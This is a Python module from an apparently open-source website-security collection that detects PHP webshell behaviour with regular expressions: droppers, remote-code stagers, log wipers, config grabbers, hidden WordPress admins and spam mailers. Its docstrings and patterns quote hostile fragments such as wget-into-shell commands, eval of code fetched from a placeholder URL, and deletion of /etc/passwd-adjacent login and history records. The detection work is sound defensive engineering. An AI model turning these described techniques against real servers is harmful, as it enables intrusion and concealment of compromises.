# Copyright: Sitekeeper contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""PHP evidence of what a file does to the server and to the outside world (issue 14).

php.py follows request input into code, commands and files. The tools left on a hacked
site often take no input worth following; what gives them away is what they do:

* download_and_run_command: a command that fetches a program (wget, curl, fetch,
  lwp-download) and runs it (an interpreter, chmod +x, ./name, a pipe into a shell).
  A web page has no reason to install and start a program: this is a dropper.
* unchecked_upload_copy: the uploaded temporary file copied (copy(), not
  move_uploaded_file()) to the name the client sent, through variables, with no
  check of type or extension: the one-line uploader.
* server_report_mailed: the script mails its own address together with the
  system's identity (php_uname(), safe mode) to an address written in the file:
  the beacon that tells an attacker where a planted file sits.
* include_of_image_file: include/require of a literal path named as a picture (.ico, .png,
  .jpg ...): PHP runs the code inside whatever the name says, and a picture has no code
  but a payload hidden from a glance at the folder.
* remote_code_evaluated: eval() of what a call fetched from a URL written in the file
  ($a = get('http://host/x.txt'); eval('?>' . $a)): code loaded from the attacker's server.
* remote_code_staged: a small file holding the URL of code kept as text elsewhere (a .php or .txt path, a paste
  service's raw view) that saves what it fetches under a PHP name or includes the saved file, or evaluates a
  fetched string ('?>' . $code): the "shell summoner" that brings the real shell back after a clean-up.
* tracks_wiped: the file names three or more of the system's login and shell-history records (wtmp,
  utmp, lastlog, .bash_history, HISTFILE, xferlog ...) and deletes, empties or runs a command: a log
  cleaner run after a break-in. Applications read their own logs, not the system's login records.
* other_sites_configs: a path into another account's home folder built from a variable ('/home/' . $user .
  '/public_html/'), beside the list of the server's accounts (/etc/passwd, named.conf, valiases) or a symlink(),
  and the names of applications' configuration files (wp-config.php, configuration.php ...): the "config grabber"
  or "symlinker" that collects the database passwords of every site sharing the host. An application
  reads its own configuration, never other accounts' homes.
* standalone_mail_relay: a file with no application around it (no include, class or
  namespace) that mails a request-supplied list with a request-supplied subject
  and body: a spam mailer.

Every test is gated by plain substrings, so a file without the words pays a few
``in`` look-ups.
"""

from __future__ import annotations

import re

from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import lazyre

# What the client sends (php.py's INPUT is wider; php.py imports this module, so it is not imported back).
_INPUT = lazyre.pattern(r"\$_(?:get|post|request|cookie|files)\b|\$http_(?:get|post|post_files)_vars|php://input")


# Gate literals are looked up in the text's distinct names (php.words_of, about a sixth of the text) before the
# text: a literal can only occur where its longest name part (a run of a-z, 0-9 and _) occurs among the names,
# and a literal that is a name occurs in the text exactly when it occurs among them. The same answers as
# ``literal in low``, for a fraction of the cost.
_NAME_PART = lazyre.pattern(r"[a-z0-9_]+")
# Every name the gates look up in ``words``: php.py has its automaton find them in the same pass as its own literals
# (php.words_of), instead of one look-up in the text each.
GATE_NAMES = ["include", "require", "tmp_name", "copy", "mail", "eval", "assert", "__file__", "touch", "unlink",
              "all_plugins", "unset", "administrator", "wp_create_user", "wp_insert_user", "symlink"]


def _parts(literals):
    """(literal, its longest name part or "") for each of ``literals`` (the parts also go to GATE_NAMES)."""
    parts = tuple((literal, max(_NAME_PART.findall(literal), key=len, default="")) for literal in literals)
    GATE_NAMES.extend(part for _literal, part in parts if part)
    return parts


def _any_in(parts, low, words):
    """any(literal in low for the literals of _parts()); ``words`` is php.words_of(low)."""
    return any((not part or part in words) and (part == literal or literal in low) for literal, part in parts)


def _position(rx, low):
    """Where ``rx`` first matches in ``low``, or -1."""
    match = rx.search(low)
    return match.start() if match else -1


def _includes(words):
    """Whether the text whose names are ``words`` (php.words_of) may include a file."""
    return "include" in words or "require" in words


def word_call(names, not_after=r"[\w>:$]", tails=None):
    """An alternation of ``names`` ("|"-separated literals), each matched only where no character of ``not_after``
    precedes it, each followed by its pattern in ``tails`` if any.

    The same matches as ``(?<!not_after)(?:name tail|...)``, but each branch starts with its literal: a search then
    skips to where a literal's first character stands instead of trying the look-behind at every position.
    """
    tails = tails or {}
    return "(?:%s)" % "|".join("%s(?<!%s%s)%s" % (re.escape(name), not_after, re.escape(name), tails.get(name, ""))
                               for name in names.split("|"))


_CMD_CALL = lazyre.pattern(word_call("system|exec|shell_exec|passthru|popen|proc_open") + r"\s*\(")
_CMD_WORDS = _parts(("system", "exec", "passthru", "popen", "proc_open"))
_FETCHERS = _parts(("wget", "curl", "lwp-download", "fetch", "lynx"))
# A fetcher used as a shell command: at the start of a command (after a quote, ; & | ` or a bracket).
_FETCH = lazyre.pattern(r"(?:^|[;&|`'\"(]\s*|\s&&\s*)(?:wget|curl|lwp-download|fetch|lynx\s+-source)\s+\S")
# Running what was fetched: an interpreter given a file, chmod +x, ./name, or a pipe into an interpreter.
_RUN = lazyre.pattern(r"(?:^|[;&|`'\"(]\s*)(?:perl|python[23]?|sh|bash|php|nohup)\s+[\w./$'-]"
                      r"|\bchmod\s+(?:[ugoa]*\+x|0?7[0-7][0-7])\s|(?:^|[;&|]\s*)\./\w"
                      r"|\|\s*(?:sh|bash|perl|php|python[23]?)\b")
_STRING = lazyre.pattern(r"'[^'\n]{8,600}'|\"[^\"\n]{8,600}\"")
_ASSIGN_OF = r"(\$\w+)\s*\.?=\s*[^;]{0,600}?"
MAX_ARGS = 800


def call_args(low: str, start: int) -> str:
    """The argument text of the call whose "(" is at ``start - 1``: up to its closing bracket (bounded)."""
    depth = 1
    quote = None
    pos = start
    end = min(len(low), start + MAX_ARGS)
    while pos < end:
        char = low[pos]
        if quote:
            if char == "\\":
                pos += 1
            elif char == quote:
                quote = None
        elif char in "'\"":
            quote = char
        elif char == "(":
            depth += 1
        elif char == ")":
            depth -= 1
            if not depth:
                return low[start:pos]
        pos += 1
    return low[start:end]


def _downloads_and_runs(text: str) -> bool:
    return _FETCH.search(text) is not None and _RUN.search(text) is not None


def _download_and_run(low, words):
    """Position of a command sink whose command (literal, concatenated, or held in a variable) fetches and runs."""
    if not _any_in(_FETCHERS, low, words) or not _any_in(_CMD_WORDS, low, words):
        return -1
    calls = [(m.start(), call_args(low, m.end())) for m in _CMD_CALL.finditer(low)]
    if not calls:
        return -1
    for start, args in calls:
        if _downloads_and_runs(args):
            return start
    # The command built in a variable first: $c = 'cd /tmp; wget ...; perl x'; system($c);
    held = set()
    for literal in _STRING.finditer(low):
        if _downloads_and_runs(literal.group()):
            assigned = re.compile(_ASSIGN_OF + r"\Z").search(low, max(0, literal.start() - 600), literal.start())
            if assigned:
                held.add(assigned.group(1))
    for start, args in calls:
        if any(re.search(re.escape(var) + r"\b", args) for var in held):
            return start
    return -1


_UPLOAD_CHECKS = _parts(("pathinfo", "getimagesize", "in_array", "preg_match", "mime", "['type']", '["type"]', "finfo",
                         "exif_imagetype", "strrchr", "extension", "allowed", "is_uploaded_file", "strtolower(substr"))
_TMP_NAME = lazyre.pattern(r"\$(?:_files|http_post_files)\s*\[[^\]\n]{1,40}\]\s*\[\s*['\"]tmp_name['\"]\s*\]")
_CLIENT_NAME = lazyre.pattern(r"\$(?:_files|http_post_files)\s*\[[^\]\n]{1,40}\]\s*\[\s*['\"]name['\"]\s*\]")
_VAR_ASSIGN = lazyre.pattern(r"(\$\w+)\s*=\s*([^;=]{1,200});")
_COPY_CALL = lazyre.pattern(word_call("copy") + r"\s*\(")


def split_two(args: str):
    """The first argument and the rest, split at the first comma outside brackets and quotes."""
    depth = 0
    quote = None
    for pos, char in enumerate(args):
        if quote:
            if char == quote:
                quote = None
        elif char in "'\"":
            quote = char
        elif char in "([":
            depth += 1
        elif char in ")]":
            depth -= 1
        elif char == "," and not depth:
            return args[:pos], args[pos + 1:]
    return args, ""


def _mentions(text, rx, names):
    return rx.search(text) is not None or any(re.search(re.escape(n) + r"(?!\w)", text) for n in names)


def _unchecked_upload_copy(low, words):
    """Position of copy(uploaded temporary file, client's name) through variables, with no check anywhere."""
    if "tmp_name" not in words or "copy" not in words or _any_in(_UPLOAD_CHECKS, low, words):
        return -1
    temps, names = set(), set()
    for match in _VAR_ASSIGN.finditer(low):
        value = match.group(2)
        if _TMP_NAME.search(value):
            temps.add(match.group(1))
        elif _CLIENT_NAME.search(value) or _INPUT.search(value):
            names.add(match.group(1))
    if _inspected(low, names):
        return -1
    for match in _COPY_CALL.finditer(low):
        source, dest = split_two(call_args(low, match.end()))
        if _mentions(source, _TMP_NAME, temps) and _mentions(dest, _CLIENT_NAME, names):
            return match.start()
    return -1


_IF = lazyre.pattern(word_call("if|elseif|while") + r"\s*\(")
# Whether it was sent, and the copy itself (if (@copy($tmp, $name))), are no look at the upload.
_PRESENCE = lazyre.pattern(word_call("isset|empty|copy") + r"\s*\([^()]*\)")
_UPLOAD_ENTRY = lazyre.pattern(r"\$(?:_files|http_post_files)\s*\[[^\]\n]{1,40}\]\s*\[")


def _inspected(low, names):
    """Whether a condition looks at the upload (its name, size, type or error) beyond whether it was sent."""
    for match in _IF.finditer(low):
        cond = _PRESENCE.sub("", call_args(low, match.end()))
        if _UPLOAD_ENTRY.search(cond) or any(re.search(re.escape(n) + r"(?!\w)", cond) for n in names):
            return True
    return False


_MAIL_CALL = lazyre.pattern(word_call("mail") + r"\s*\(")
_SYSTEM_ID = _parts(("php_uname", "safe_mode", "get_current_user", "disable_functions"))
_SERVER = _parts(("$_server",))
_SELF_URL = lazyre.pattern(r"\$_server\s*\[\s*['\"](?:http_host|server_name)['\"]\s*\][^;]{0,80}"
                           r"\$_server\s*\[\s*['\"](?:request_uri|php_self|script_name|script_filename)['\"]\s*\]")
# A string literal holding an e-mail address (or a list of them).
_ADDRESS_LITERAL = lazyre.pattern(r"'[^'\n]{0,300}?[\w.+-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+[^'\n]{0,300}'"
                                  r"|\"[^\"\n$]{0,300}?[\w.+-]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+[^\"\n$]{0,300}\"")


def _report_mailed(low, words):
    """Position of mail() to an address written in the file, in a file that collects its own URL and the system's
    identity."""
    if "mail" not in words or not _any_in(_SERVER, low, words) or not _any_in(_SYSTEM_ID, low, words):
        return -1
    if not _SELF_URL.search(low):
        return -1
    fixed = {m.group(1) for m in _VAR_ASSIGN.finditer(low) if _ADDRESS_LITERAL.fullmatch(m.group(2).strip())}
    for match in _MAIL_CALL.finditer(low):
        to = split_two(call_args(low, match.end()))[0].strip()
        if _ADDRESS_LITERAL.fullmatch(to) or to.strip("\"'") in fixed:
            return match.start()
    return -1


_APPLICATION = lazyre.pattern(word_call("include|require") + r"(?:_once)?\b|^\s*(?:abstract\s+|final\s+)?class\s+\w|"
                              r"^\s*namespace\s+\w", re.M)


def _mail_relay(low):
    """Position of mail() whose subject and body come from the request, in a file that stands alone."""
    if "mail" not in low or _APPLICATION.search(low):
        return -1
    tainted = {m.group(1) for m in _VAR_ASSIGN.finditer(low) if _INPUT.search(m.group(2))}
    for _round in range(3):  # $msg = str_replace('%email%', $to, $message); with $message from the request
        more = {m.group(1) for m in _VAR_ASSIGN.finditer(low)
                if any(re.search(re.escape(v) + r"(?!\w)", m.group(2)) for v in tainted)}
        if more <= tainted:
            break
        tainted |= more
    for match in _MAIL_CALL.finditer(low):
        _to, rest = split_two(call_args(low, match.end()))
        subject, rest = split_two(rest)
        body, _headers = split_two(rest)
        if all(_mentions(arg, _INPUT, tainted) for arg in (subject, body)):
            return match.start()
    return -1


_IMAGE_EXT = _parts((".ico", ".png", ".jpg", ".jpeg", ".gif", ".bmp", ".webp"))
_INCLUDE_IMAGE = lazyre.pattern(word_call("include|require") + r"(?:_once)?\s*\(?\s*['\"][^'\"\n]{0,300}"
                                r"\.(?:ico|png|jpe?g|gif|bmp|webp)['\"]")


def _include_of_image(low, words):
    if not _includes(words) or not _any_in(_IMAGE_EXT, low, words):
        return -1
    return _position(_INCLUDE_IMAGE, low)


_FETCHED = lazyre.pattern(r"(\$\w+)\s*=\s*@?\s*[a-z_]\w*\s*\(\s*['\"](?:https?|ftp)://[^'\"\s]{4,300}['\"]\s*\)\s*;")
_EVAL_CALL = lazyre.pattern(word_call("eval|assert") + r"\s*\(")
# eval/assert given a call on a remote address itself: eval('?>' . file_get_contents('https://host/x.txt')). Looked
# for back from each such call (rare), not forward from each eval (many in some files).
_QUOTED_SCHEME = lazyre.pattern(r"['\"](?:https?|ftp)://")
_NAME_FIRST = frozenset("abcdefghijklmnopqrstuvwxyz_")


def _space_before(low, pos):
    """The position before the white space that ends at ``pos`` (exclusive)."""
    while pos >= 0 and low[pos].isspace():  # what \s matches in a str pattern
        pos -= 1
    return pos


def _fetch_calls(low):
    """Where each call given a remote address starts (the matches of \\b[a-z_]\\w*\\s*\\(\\s*['"](?:https?|ftp)://), in
    order: found back from each quoted address (a search for that pattern tries every name of the text, which cost
    more than the rest of this module on large files)."""
    for url in _QUOTED_SCHEME.finditer(low):
        bracket = _space_before(low, url.start() - 1)
        if bracket > 0 and low[bracket] == "(":
            last = _space_before(low, bracket - 1)
            first = last
            while first >= 0 and (low[first].isalnum() or low[first] == "_"):  # what \w matches
                first -= 1
            if first < last and low[first + 1] in _NAME_FIRST:
                yield first + 1


_EVAL_OPEN = lazyre.pattern(word_call("eval|assert") + r"\s*\([^;]*$")
FETCH_IN_EVAL = 200


def _remote_code(low, words):
    """Position of an eval/assert given code fetched from a remote address (by a call in its argument, or into a
    variable it is given); else -1."""
    if ("eval" not in words and "assert" not in words) or "://" not in low:
        return -1
    for call in _fetch_calls(low):
        opened = _EVAL_OPEN.search(low, max(0, call - FETCH_IN_EVAL), call)
        if opened:
            return opened.start()
    fetched = {m.group(1) for m in _FETCHED.finditer(low)}
    if not fetched:
        return -1
    for match in _EVAL_CALL.finditer(low):
        args = call_args(low, match.end())
        if any(re.search(re.escape(var) + r"(?!\w)", args) for var in fetched):
            return match.start()
    return -1


# Code kept as text on another host: a URL whose path ends in a PHP or text name, or a paste service's raw view
# (pastebin.com/raw/ID). Fetched by a small file that saves it and runs it (include of the saved path, a PHP name
# to save it under) or evaluates what a call returned (eval('?>' . $code)): the "shell summoner" left behind to
# bring the real shell back after a clean-up. An application's update check fetches data, in a file of its own.
_CODE_URL = lazyre.pattern(r"['\"](?:https?|ftp)://[^'\"\s]{1,300}?(?:\.(?:php\d?|phtml|phar|txt)|/raw/[\w-]{1,40})['\"]")
# What is written is what a call returned: the call itself as the data argument, or a variable assigned a call's result.
_WRITTEN = lazyre.pattern(r"\b(?:fwrite|fputs|file_put_contents)\s*\(\s*[^,;]{1,200},\s*@?\s*(?:[a-z_]\w*\s*\(|(\$\w+)\s*[,)])")
_RUN_SAVED = lazyre.pattern(word_call("include|require") + r"(?:_once)?\s*\(?\s*@?\s*\$")
_PHP_NAME = lazyre.pattern(r"['\"][^'\"\s:]{0,200}\.(?:php\d?|phtml)['\"]")
_RUN_FETCHED = lazyre.pattern(word_call("eval|assert") + r"\s*\(\s*['\"]\?>['\"]\s*\.\s*\$")
STAGER_SIZE = 8 << 10


def _remote_code_staged(low, words):
    if len(low) > STAGER_SIZE or "://" not in low:
        return -1
    url = _CODE_URL.search(low)
    if url is None:
        return -1
    if _RUN_FETCHED.search(low) or _saves_a_result(low) and (_RUN_SAVED.search(low) or _PHP_NAME.search(low)):
        return url.start()
    return -1


def _saves_a_result(low):
    for match in _WRITTEN.finditer(low):
        var = match.group(1)
        if var is None or re.search(re.escape(var) + r"\s*=\s*@?\s*[a-z_]\w*\s*\(", low):
            return True
    return False


# An include whose path is written in escapes ("\167\160\55..."): nothing but hiding which file runs.
# One pattern per name, each starting with it: the engine skips to the name (an alternation of the names stops at
# every "i" and "r").
_ESCAPED_INCLUDES = tuple(re.compile(name + r"(?:_once)?\s*\(?\s*@?\s*\"(?:[^\"\n\\]{0,40}"
                                     r"\\(?:[0-7]{1,3}|x[0-9a-f]{1,2})){3}") for name in ("include", "require"))


def _escaped_include(low, words):
    if not _includes(words) or "\\" not in low:
        return -1
    found = [at for at in (_position(rx, low) for rx in _ESCAPED_INCLUDES) if at >= 0]
    return min(found, default=-1)


# A script that sets another file's time back (touch() given a past time) and deletes itself: an intruder's clean-up
# after planting the file, so that it looks as old as its neighbours.
_SELF_DELETE = lazyre.pattern(r"\bunlink\s*\(\s*__file__\s*\)")
_BACKDATED = lazyre.pattern(r"\btouch\s*\([^;]{1,200}?,\s*\(?\s*(?:time\s*\(\s*\)\s*-|strtotime\s*\(\s*['\"]\s*-|\d{9,10}\s*[,)]"
                            r"|filemtime\s*\()")


def _backdated_and_self_deleted(low, words):
    if "__file__" not in words or "touch" not in words or not _SELF_DELETE.search(low):
        return -1
    return _position(_BACKDATED, low)


# A file included and deleted at once (include("$dir.x"); unlink("$dir.x");): code written to a file only to run it
# and leave nothing behind, the way eval() would, where eval() is watched.
_INCLUDED_THEN_DELETED = lazyre.pattern(r"(?:include|require)(?:_once)?\s*\(?\s*(\$\w+|(['\"])[^'\";\n]{1,200}\2)\s*\)?\s*;"
                                        r"\s*@?\s*unlink\s*\(\s*\1\s*\)")


def _included_then_deleted(low, words):
    if "unlink" not in words or not _includes(words):
        return -1
    return _position(_INCLUDED_THEN_DELETED, low)


# WordPress backdoors: a plugin that takes itself out of the plugin list (the all_plugins filter) and out of update
# checks or of its own deactivate link; an administrator account made by code that also hides users from the user
# list (pre_user_query, views_users). WordPress's installer makes its administrator without hiding anyone.
_ALL_PLUGINS_FILTER = lazyre.pattern(r"add_filter\s*\(\s*['\"]all_plugins['\"]")
_UPDATE_OR_DEACTIVATE_HIDDEN = lazyre.pattern(r"unset\s*\(\s*\$\w+\s*->\s*(?:response|no_update)\s*\["
                                              r"|unset\s*\(\s*\$\w+\s*\[\s*['\"]deactivate['\"]\s*\]")
_ADMIN_ROLE = lazyre.pattern(r"set_role\s*\(\s*['\"]administrator['\"]|['\"]role['\"]\s*=>\s*['\"]administrator['\"]")
_USERS_HIDDEN = lazyre.pattern(r"add_(?:action|filter)\s*\(\s*['\"](?:pre_user_query|views_users)['\"]")


def _wp_plugin_hidden(low, words):
    if "all_plugins" not in words or "unset" not in words:
        return -1
    return _position(_ALL_PLUGINS_FILTER, low) if _UPDATE_OR_DEACTIVATE_HIDDEN.search(low) else -1


def _wp_hidden_admin(low, words):
    if "administrator" not in words or ("wp_create_user" not in words and "wp_insert_user" not in words):
        return -1
    return _position(_USERS_HIDDEN, low) if _ADMIN_ROLE.search(low) else -1


# The system's records of who logged in and what they typed (not an application's own logs), as names: looked up
# in the text's distinct names (php.words_of), not in the whole text once each.
_TRACK_RECORDS = ("lastlog", "wtmp", "utmp", "btmp", "bash_history", "ksh_history", "sh_history", "zsh_history",
                  "mysql_history", "histfile", "xferlog")
GATE_NAMES.extend(_TRACK_RECORDS)
_TRACK_KEYS = tuple((record, "\n%s\n" % record) for record in _TRACK_RECORDS)  # each a whole name among the names
_WIPE = lazyre.pattern(r"\bunlink\s*\(|\bftruncate\s*\(|\brm\s+-|\bshred\s|\bunset\s+histfile|>\s*/var/log/"
                       r"|\bfopen\s*\([^;]{0,200}?,\s*['\"]w|" + _CMD_CALL.pattern)


def _wipes_tracks(low, words):
    """Position of the first system login or history record named, when three or more are and something deletes,
    empties or runs a command; else -1. ``words`` is php.words_of(low): the text's names between newlines, or the
    text itself when it is short."""
    whole = words is low
    named = [record for record, key in _TRACK_KEYS if (record if whole else key) in words]
    if len(named) < 3 or not _WIPE.search(low):
        return -1
    return min(low.find(record) for record in named)


# Where a shared host's accounts are listed, and a home folder path built from a variable (concatenated or
# interpolated). Each branch starts with a literal: a search skips to each "/home" or "$".
_ACCOUNT_LISTS = _parts(("/etc/passwd", "/etc/named.conf", "/var/named", "/etc/valiases", "/etc/domainalias"))
# Or the account's web folder or its own secrets under a variable that names the account ($home . '/' . $user .
# '/public_html/...', '/.my.cnf'): the home root chosen at run time (home, home2 ... picked from a list).
_HOME_OF_VARIABLE = lazyre.pattern(r"/home\d?/(?:['\"]\s*\.\s*\$\w|\{?\$\w)"
                                   r"|\$\w+\s*\.\s*['\"]/(?:public_html/|\.my\.cnf|\.accesshash)")
_CONFIG_FILES = _parts(("wp-config", "configuration.php", "config.php", "settings.php", "conf_global", "config.inc.php",
                        "localsettings.php", ".env"))
_HOME = _parts(("/home",))


def _other_sites_configs(low, words):
    """Position of a home folder path built from a variable, in a file that lists the host's accounts or makes
    symlinks and names applications' configuration files; else -1."""
    if not _any_in(_HOME, low, words) or not _any_in(_CONFIG_FILES, low, words):
        return -1
    if not _any_in(_ACCOUNT_LISTS, low, words) and "symlink" not in words:
        return -1
    return _position(_HOME_OF_VARIABLE, low)


def score_actions(low, ev, first, words):
    """Add the signals above for one lower-cased layer of PHP text to ``ev`` (positions only on the first layer).
    ``words`` is php.words_of(low), which the caller has already computed."""
    for name, weight, find in (("download_and_run_command", 10, _download_and_run),
                               ("unchecked_upload_copy", 10, _unchecked_upload_copy),
                               ("server_report_mailed", 10, _report_mailed),
                               ("include_of_image_file", 10, _include_of_image),
                               ("remote_code_evaluated", 10, _remote_code),
                               ("remote_code_staged", 10, _remote_code_staged),
                               ("other_sites_configs", 10, _other_sites_configs),
                               ("include_of_escaped_path", 10, _escaped_include),
                               ("backdated_and_self_deleted", 10, _backdated_and_self_deleted),
                               ("included_then_deleted", 8, _included_then_deleted),
                               ("wp_plugin_hidden", 10, _wp_plugin_hidden),
                               ("wp_hidden_admin", 10, _wp_hidden_admin)):
        pos = find(low, words)
        if pos >= 0:
            ev.add(name, weight, pos if first else -1)
    pos = _wipes_tracks(low, words)
    if pos >= 0:
        ev.add("tracks_wiped", 10, pos if first else -1)
    # A spam mailer: only on top of a bulk list taken from the request (php.py's bulk_mail_from_request).
    if "bulk_mail_from_request" in ev.found and "standalone_mail_relay" not in ev.found:
        pos = _mail_relay(low)
        if pos >= 0:
            ev.add("standalone_mail_relay", 3, pos if first else -1)
